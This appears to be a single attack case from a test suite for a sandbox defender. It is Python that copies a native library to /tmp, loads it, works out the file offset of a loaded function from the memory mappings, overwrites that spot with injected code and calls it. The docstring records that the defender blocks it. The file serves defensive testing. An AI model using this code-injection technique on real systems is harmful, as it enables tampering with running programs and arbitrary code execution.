"""Code written into a library's file
Loads a library from /tmp and overwrites its file, whose untouched pages are the mapped ones.
policy: no-tampering
audit: none
works: no, the Defender gives code from files that can be written a copy of its own, under any rule
alone: yes
"""
import ctypes
import os


def attack(at):
    path = at.copied("/var/task/native.so", "/tmp/work/rewritten.so")
    library = ctypes.CDLL(path)
    place = ctypes.cast(library.far_away, ctypes.c_void_p).value
    offset = next(offset + place - start for start, end, _, offset, _ in at.mappings() if start <= place < end)
    file = os.open(path, os.O_RDWR)
    os.lseek(file, offset, 0)
    os.write(file, at.own_code())
    return at.called(place)
